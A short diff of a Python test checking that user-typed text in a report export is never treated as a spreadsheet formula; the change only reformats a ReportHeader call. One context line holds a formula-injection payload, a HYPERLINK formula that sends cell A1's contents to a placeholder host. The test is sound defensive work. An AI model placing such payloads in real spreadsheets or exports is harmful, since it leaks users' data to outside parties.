@@ -175,7 +175,9 @@ def test_typed_text_is_never_a_formula_in_an_export(tmp_path):  # type: ignore[n
     from app.dto.reports import Column, ReportHeader, ReportTable
 
     evil = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
-    header = ReportHeader("退补清单", "营业厅", "3301", "公司", "2026-12-06", dt.datetime.now().astimezone(), "值班长")
+    header = ReportHeader(
+        "退补清单", "营业厅", "3301", "公司", "2026-12-06", dt.datetime.now().astimezone(), "值班长"
+    )
     table = ReportTable(
         "adjustments",
         header,
